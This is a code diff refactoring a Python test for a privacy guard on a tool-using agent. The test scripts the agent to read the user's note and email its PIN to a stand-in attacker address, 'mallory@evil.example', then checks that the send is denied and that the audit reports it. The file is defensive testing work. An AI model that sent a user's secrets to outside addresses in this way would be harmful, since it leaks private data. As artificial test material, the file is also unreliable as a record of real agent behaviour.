@@ -10,12 +10,11 @@ from _mail import mail_effect
 
 import json
 
-from _audit_trace import audit_journal, found, journaled_agent, live_denials
+from _audit_trace import audit_journal, found, journaled_run, live_denials
 from _turns import by_turn
-from langchain_core.messages import HumanMessage, ToolMessage
+from langchain_core.messages import ToolMessage
 
 from guards import (PrivacyFlow, PrivacyPolicy, audit_trace, privacy_sink, privacy_source, trace_from_messages)
-from vfa import EffectJournal
 
 USER = "me@home.example"
 ATTACKER = "mallory@evil.example"
@@ -34,17 +33,15 @@ def _tools(sent: list) -> list:
 def test_audit_of_the_messages_reads_a_text_result_as_text() -> None:
     rule = by_turn(("read_note", {}, "c1"), ("send_email", {"to": [ATTACKER], "body": "83920174"}, "c2"))
     sent: list = []
-    journal = EffectJournal()
     policy = PrivacyPolicy.of(USER)
-    app = journaled_agent(rule, _tools(sent), PrivacyFlow(policy, secret=b"s", journal=journal), journal)
-    out = app.invoke({"messages": [HumanMessage("Read my note.")]}, {"configurable": {"thread_id": "t"}})
-    last = [m for m in out["messages"] if isinstance(m, ToolMessage)][-1]
+    messages, journal = journaled_run(rule, _tools(sent), policy, "Read my note.")
+    last = [m for m in messages if isinstance(m, ToolMessage)][-1]
     assert last.artifact["vfa"]["outcome"] == "denied" and sent == []  # live: denied
     live = live_denials(journal)
     assert live == [("c2", "confidentiality", "body")]
-    by_journal = audit_journal(journal, out["messages"], _tools([]), PrivacyFlow(policy, secret=b"s"))
+    by_journal = audit_journal(journal, messages, _tools([]), PrivacyFlow(policy, secret=b"s"))
     assert found(by_journal) == live
     # the same conversation, audited from its messages: the note's text is parsed into a record whose
     # "memo" field no declaration names, so the PIN counts as public and nothing is reported
-    by_messages = audit_trace(trace_from_messages(out["messages"]), _tools([]), policy)
+    by_messages = audit_trace(trace_from_messages(messages), _tools([]), policy)
     assert found(by_messages) == live, [v.message for v in by_messages]
